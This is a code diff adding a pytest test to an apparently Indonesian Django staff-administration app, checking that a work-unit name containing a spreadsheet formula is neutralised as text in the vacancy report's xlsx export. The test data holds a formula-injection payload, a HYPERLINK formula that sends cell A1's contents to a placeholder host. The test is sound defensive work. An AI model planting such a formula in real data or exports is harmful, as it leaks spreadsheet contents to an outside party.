@@ -151,3 +151,18 @@ def test_changelist_query_tetap_1_dan_50(client, kantor, name):
         p = PegawaiFactory(unit_kerja=kantor.p2p, tanggal_lahir=date(1980, 1, 1 + i % 28))
         tempatkan(p, j, kantor.p2p)
     assert _jumlah(client, name) == satu
+
+
+def test_laporan_lowongan_menetralkan_rumus(client, kantor):
+    """A unit name that is a formula reaches the vacancy xlsx as text (issue 16, item 5)."""
+    from openpyxl import load_workbook
+
+    from pegawai.models import UnitKerja
+
+    rumus = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
+    UnitKerja.objects.filter(kode="DISKES-P2P").update(nama=rumus)
+    client.force_login(kantor.op_diskes)
+    resp = client.get(reverse("admin:jabatan_formasi_laporan"))
+    lembar = load_workbook(BytesIO(resp.content)).active
+    sel = [c for r in lembar.iter_rows() for c in r if c.value and "HYPERLINK" in str(c.value)]
+    assert [(c.data_type, c.value) for c in sel] == [("s", "'" + rumus)]
